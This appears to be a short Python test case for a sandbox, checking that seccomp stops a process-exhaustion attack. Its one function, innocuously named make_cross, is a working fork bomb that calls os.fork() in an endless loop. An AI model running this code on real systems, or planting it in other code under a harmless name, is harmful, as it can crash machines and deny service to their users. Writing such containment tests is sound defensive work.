"""Makes processes without end.

Aims at: the machine's processes
Acts at: call
Outcome: status error, code value, suspicion process
Stopped by: seccomp
Unsafe without: seccomp
"""

import os


def make_cross(size=7):
    while True:
        os.fork()
